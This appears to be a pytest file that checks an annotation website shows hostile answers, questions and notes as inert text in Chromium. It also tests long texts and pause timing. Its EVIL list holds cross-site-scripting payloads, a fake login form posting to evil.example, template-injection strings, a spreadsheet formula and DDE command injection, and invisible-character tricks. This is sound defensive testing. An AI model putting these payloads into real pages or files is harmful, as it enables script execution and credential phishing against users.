"""Answers, questions and notes that try to be more than text: shown, stored and sent on as text, in real Chromium."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from annotate_site_parts import Ground, Place, chromium
from honne.annotate.server import pause
from honne.annotate.server.shown import FIRST, marked, piece, rest
from honne.annotate.tables import Answer, Label
from honne.text import clean

EVIL = [
    "<script>window.pwned=1;alert(1)</script>",
    '<img src=x onerror="window.pwned=1;alert(1)">',
    "</div></main><h1>You are done, log in again</h1><form action=http://evil.example><input name=password>",
    "</textarea></script><style>*{display:none}</style><svg onload=window.pwned=1>",
    '" onmouseover="window.pwned=1" style="position:fixed;inset:0" x="',
    "javascript:window.pwned=1 {{7*7}} {% raw %} ${7*7} &lt;b&gt; &#x3c;",
    '=HYPERLINK("http://evil.example";"1") | +1+cmd|\'/C calc\'!A0',
    "safe\u202eEFASNU yllautca\u202c \u2066isolate\u2069 \u200bzero\ufeff width",
    "NUL \x00 ESC \x1b[31m BEL \x07 DEL \x7f CR \r end",
    "tags \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 selectors a\U000e0100\U000e0101b",
    "Z" + "\u0301\u0316\u0334" * 400 + " stacked",
    "hx-get=/logout hx-trigger=load <div hx-get='/projects/1/label' hx-trigger='load'>x</div>",
]
HUGE = "<b>start</b> " + "x" * 1_000_000 + " \u202eend"


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ground]:
    with chromium() as browser:
        found = Ground(tmp_path_factory.mktemp("ground"), browser)
        yield found
        found.close()


def seen(text: str) -> str:
    """What a page should show of a text: every character, the unseen ones by their code points."""
    unseen = {c for c in text if not c.isprintable() and c not in "\n\t "} | set("\U000e0100\U000e0101")
    return "".join(f"U+{ord(c):04X}" if c in unseen else c for c in text)


def test_what_reports_do_not_obey_is_marked() -> None:
    for code in (*range(0x10000), *range(0xE0000, 0xE1000)):
        if clean(chr(code)) != chr(code):
            assert f"U+{code:04X}" in marked(chr(code))
    assert marked("一\n二\t三 👩\u200d🔬") == "一\n二\t三 👩\u200d🔬"


def test_hostile_answers_are_text(ground: Ground) -> None:
    here = Place(ground, "flames", n=len(EVIL), text=lambda i: EVIL[i], question=lambda i: EVIL[-1 - i])
    ann = here.annotator()
    width = ann.page.locator("#label-form").bounding_box()
    shown = set()
    for _ in EVIL:
        ann.press("b")
        text, asked = ann.page.locator(".answer .text"), ann.page.locator(".turn .text")
        shown.add(text.text_content())
        # Nothing of it became an element, but the marks of what cannot be seen.
        for box in (text, asked):
            assert box.evaluate("e => [...e.querySelectorAll(':not(.unseen)')].length") == 0
            assert box.evaluate("e => getComputedStyle(e).unicodeBidi") == "plaintext"
        assert ann.page.evaluate("() => window.pwned") is None
        assert ann.page.locator("#label-form").bounding_box()["x"] == width["x"], "the page is where it was"
        assert ann.page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
        ann.press("b")
        ann.label("3")
    assert shown == {seen(text) for text in EVIL}
    assert len(here.labels(Label.id)) == len(EVIL)
    here.close()


def test_stacked_marks_stay_in_their_box(ground: Ground) -> None:
    """A tower of combining marks would paint over the form; the box of a text clips what it paints."""
    tower = "\n" * 3 + "e" + "\u0301" * 3000
    here = Place(ground, "safe", n=1, text=lambda i: tower)
    ann = here.annotator()
    ann.press("b")
    assert ann.page.eval_on_selector(".answer .text", "e => getComputedStyle(e).contain") == "paint"
    here.close()


def test_a_hostile_note_is_text_for_the_adjudicator(ground: Ground) -> None:
    here = Place(ground, "safe", n=1)
    ann, bob = here.annotator(), here.person("annotator4")
    ann.page.fill("#note", EVIL[0] + EVIL[2] + EVIL[7])
    ann.press("Escape")
    ann.label("1")
    bob.go(here.home)
    bob.label("2")
    judy = here.person("adjudicator1")
    judy.go(f"/projects/{here.team.project}/adjudicate/{here.labels(Label.answer_id)[0][0]}")
    note = judy.page.locator(".opinions .note")
    assert note.text_content() == seen(EVIL[0] + EVIL[2] + EVIL[7])
    assert note.evaluate("e => [...e.querySelectorAll(':not(.unseen)')].length") == 0
    assert judy.page.evaluate("() => window.pwned") is None
    here.close()


def test_a_megabyte_is_shown_in_part_and_then_whole(ground: Ground) -> None:
    here = Place(ground, "safe", n=1, text=lambda i: HUGE, question=lambda i: HUGE[:70_000])
    ann = here.annotator()
    ann.press("b")
    assert len(ann.page.content()) < 100_000, "the page begins small"
    box = ann.page.locator(".answer .text")
    assert "<b>start</b>" in box.text_content()
    ann.page.click(".answer .rest")
    ann.page.wait_for_selector(".answer .rest", state="detached")
    assert box.text_content() == seen(HUGE)
    assert box.evaluate("e => e.querySelectorAll('b').length") == 0
    assert ann.page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
    ann.press("1", "Enter")
    ann.page.wait_for_selector(".empty")
    assert here.labels(Label.label) == [("safe",)]
    here.close()


def test_several_turns_are_a_conversation(ground: Ground) -> None:
    here = Place(ground, "safe", n=1)
    turns = [["system", "Be brief."], ["user", "First"], ["assistant", "Reply <i>one</i>"], ["user", "Then?"]]

    def converse(s: Any) -> None:
        answer = s.query(Answer).filter_by(project_id=here.team.project).one()
        answer.question = turns

    here.database.write(converse)
    ann = here.annotator()
    assert ann.page.locator(".turn .role").all_inner_texts() == ["System", "User", "Model", "User"]
    assert ann.page.locator(".turn .text").all_inner_texts() == [text for _, text in turns]
    here.close()


# --------------------------------------------------------------- without a browser


def test_nothing_unseen_is_left_in_a_marked_text() -> None:
    draw = random.Random(7)
    alphabet = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA1), *range(0x200B, 0x2070), 0xFEFF, 0xE0041, 0xD800)]
    alphabet += [*"a<>&\"'漢あ\n\t ", "\U0001f600"]
    for _ in range(300):
        text = "".join(draw.choices(alphabet, k=draw.randrange(60)))
        html = str(marked(text))
        bare = html.replace('<span class="unseen">', "").replace("</span>", "")
        assert "<" not in bare and ">" not in bare
        # Spaces of any width are seen as spaces, and the joiners are spelling.
        assert all(c.isprintable() or c.isspace() or c in "\u200c\u200d" for c in html)
        assert not set(html) & set("\x0b\x0c\x1c\x1d\x1e\x1f\x85\r\u2028\u2029")


def test_spelling_of_emoji_and_scripts_is_kept() -> None:
    for text in ("👩‍👩‍👧 ❤️‍🔥", "می‌خواهم", "क्‍ष", "e\u0301", "日本語\tタブ\n改行"):
        assert str(marked(text)) == text


def test_a_long_row_of_unseen_characters_is_one_short_mark() -> None:
    html = str(marked("a" + "\u200b" * 100_000 + "b"))
    assert html.startswith("a<span") and html.endswith(">+99,976</span>b") and len(html) < 2000


def test_a_long_text_comes_in_two_parts_that_make_the_whole() -> None:
    text = "".join(chr(0x4E00 + i % 500) for i in range(FIRST + 1234))
    first = piece(text)
    assert (first.length, first.more) == (len(text), 1234)
    assert first.html + rest(text) == text
    assert piece("short").more == 0


def test_when_a_pause_is_due() -> None:
    now = datetime(2026, 1, 1, 12, tzinfo=UTC)

    def read(*minutes_and_harm: tuple[float, bool]) -> bool:
        return pause.due([(now - timedelta(minutes=m), bad) for m, bad in minutes_and_harm], now)

    ten = [(m / 2, True) for m in range(10)]
    assert read(*ten)
    assert not read(*ten[:9]) and not read(*ten, (5.0, True)), "at each tenth, not after every one"
    assert not read(*[(m / 2, True) for m in range(5)], *[(15 + m / 2, True) for m in range(5)]), "a pause was made"
    assert not read((0, False), *[(0.1 + m / 2, True) for m in range(10)]), "the last one was harmless"
    assert read(*[(m / 9, False) for m in range(40)]), "many texts of any kind"
    assert not read()
